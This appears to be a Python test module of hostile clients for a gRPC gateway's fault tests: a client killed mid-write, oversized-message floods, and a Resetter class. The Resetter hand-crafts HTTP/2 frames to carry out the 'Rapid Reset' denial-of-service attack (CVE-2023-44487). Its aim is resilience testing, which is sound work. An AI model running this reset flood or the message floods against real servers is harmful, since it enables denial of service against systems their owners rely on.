"""Clients that a test kills, that write too much, or that reset what they begin.

The first two are programs of their own: `python -m tests.faults.hostile_clients endless ADDRESS SEED CALLS` writes
groups of contents without end and prints the number of each group when it begins and when it is acked;
`... heavy ADDRESS LOAD CALLS` makes many calls of one large message each and prints as JSON how they ended.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from importlib import import_module
from itertools import count
from pathlib import Path
from typing import Any, Final

import grpc

from provgate.v1 import provenance_storage_pb2 as pb2
from provgate_client.storage import ProvenanceStorageGrpc
from tests.support.gateway_calls import contents, outcome_of

_CLONE: Final = Path(__file__).resolve().parents[2]
_GROUP_SIZE: Final = 3_000
_CHANNELS: Final = 10
_CONTENT_BYTES: Final = 24


def _command(*arguments: object) -> list[str]:
    return [sys.executable, "-m", "tests.faults.hostile_clients", *map(str, arguments)]


def group(seed: int, number: int) -> list[bytes]:
    """Returns the contents of a group: they follow from the seed, so that a test knows them too."""
    draw = random.Random(f"{seed} {number}")
    return [draw.randbytes(20) for _ in range(_GROUP_SIZE)]


def kill_client(address: str, seed: int, call_count: int) -> tuple[set[int], set[int]]:
    """Starts a client, and kills it (SIGKILL) in the middle of all its calls.

    Returns:
        The numbers of the groups that it had begun, and of those that were acked.
    """
    begun, acked = set[int](), set[int]()
    command = _command("endless", address, seed, call_count)
    with subprocess.Popen(command, cwd=_CLONE, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        try:
            for line in process.stdout:
                what, number = line.split()
                (begun if what == "begun" else acked).add(int(number))
                if len(acked) >= call_count and len(begun - acked) == call_count:
                    process.kill()
        finally:
            process.kill()
    assert begun - acked
    return begun, acked


def _write_without_end(address: str, seed: int, call_count: int) -> None:
    numbers = count()
    with ProvenanceStorageGrpc(url=address, message_entries=200) as storage, ThreadPoolExecutor(call_count) as threads:

        def write() -> None:
            for number in numbers:
                _print_line("begun", number)
                if storage.content_add(group(seed, number)):
                    _print_line("acked", number)

        for _ in range(call_count):
            threads.submit(write)


def _print_line(what: str, number: int) -> None:
    # In one go: the lines of two threads must not mix.
    sys.stdout.write(f"{what} {number}\n")
    sys.stdout.flush()


def write_heavily(address: str, load: str, call_count: int) -> Counter[str]:
    """Makes writes that each send one message and half-close, from a process of their own.

    Args:
        address: of the gateway.
        load: what the message is: "contents", "long paths" or "empty paths".
        call_count: how many writes there are at once.

    Returns:
        How many calls ended in which way: "OK", or status code and reason.
    """
    command = _command("heavy", address, load, call_count)
    ended = subprocess.run(command, cwd=_CLONE, stdout=subprocess.PIPE, check=True, timeout=280)
    return Counter(json.loads(ended.stdout))


def _heavy_message(load: str) -> tuple[str, bytes]:
    if load == "contents":
        return "ContentAdd", contents(4 * 2**20 // _CONTENT_BYTES - 1).SerializeToString()
    paths = [b"%04000d" % number for number in range(1040)] if load == "long paths" else [b""] * 2_000_000
    return "LocationAdd", pb2.LocationAddRequest(paths=paths).SerializeToString()


def _make_heavy_writes(address: str, load: str, call_count: int) -> None:
    # A thread that waits for gRPC wakes up ten times a second: a thousand of them take two cores.
    waits: Any = import_module("grpc._common")
    waits.MAXIMUM_WAIT_TIMEOUT = 10.0
    method, body = _heavy_message(load)
    calls: list[Callable[..., Any]] = [
        grpc.insecure_channel(address, [("grpc.use_local_subchannel_pool", 1)]).stream_stream(
            f"/provgate.v1.ProvenanceStorage/{method}"
        )
        for _ in range(min(_CHANNELS, call_count))
    ]

    def ended(number: int) -> str:
        outcome = outcome_of(calls[number % len(calls)](iter([body])))
        if outcome.ok:
            return "OK"
        return f"{outcome.code.name} {outcome.reason if outcome.details else outcome.message}"

    with ThreadPoolExecutor(call_count) as threads:
        sys.stdout.write(json.dumps(Counter(threads.map(ended, range(call_count)))))


_HEADERS, _RST_STREAM, _SETTINGS, _DATA = 1, 3, 4, 0
_END_STREAM, _END_HEADERS, _CANCEL = 1, 4, 8
_MAX_STREAM_ID: Final = 2**31 - 1


class Resetter:
    """Begins calls and resets each at once, as fast as the server takes them, on a thread. A context manager.

    "Rapid reset" (CVE-2023-44487) hurts servers that count only open streams.

    Args:
        address: `host:port` of the server.
        path: of the RPC.
        body: the request.

    Attributes:
        count: how many calls were begun and reset.
    """

    def __init__(self, address: str, path: str, body: bytes) -> None:
        self.count = 0
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        # Literal fields without indexing, with the names of the static table where it has them (RFC 7541, 6.2.2).
        self._headers = b"\x83\x86" + b"".join(
            name + bytes([len(value)]) + value
            for name, value in (
                (b"\x04", path.encode()),
                (b"\x01", b"gateway"),
                (b"\x0f\x10", b"application/grpc"),
                (b"\x00\x02te", b"trailers"),
            )
        )
        self._message = b"\x00" + struct.pack(">I", len(body)) + body
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._run, name="resetter", daemon=True)

    def __enter__(self) -> Resetter:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stopping.set()
        self._thread.join(10)

    def _run(self) -> None:
        while not self._stopping.is_set():
            with suppress(OSError), socket.create_connection(self._address, timeout=5) as connection:
                self._reset_calls(connection)

    def _reset_calls(self, connection: socket.socket) -> None:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
        threading.Thread(target=_read_all, args=(connection,), daemon=True).start()
        stream = 1
        while not self._stopping.is_set() and stream < _MAX_STREAM_ID - 200:
            burst = b""
            for _ in range(100):
                burst += _frame(_HEADERS, _END_HEADERS, stream, self._headers)
                burst += _frame(_DATA, _END_STREAM, stream, self._message)
                burst += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
                stream += 2
            connection.sendall(burst)
            self.count += 100


def _read_all(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(2**16):
            pass


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


if __name__ == "__main__":
    _, mode, gateway, argument, calls = sys.argv
    if mode == "endless":
        _write_without_end(gateway, int(argument), int(calls))
    else:
        _make_heavy_writes(gateway, argument, int(calls))
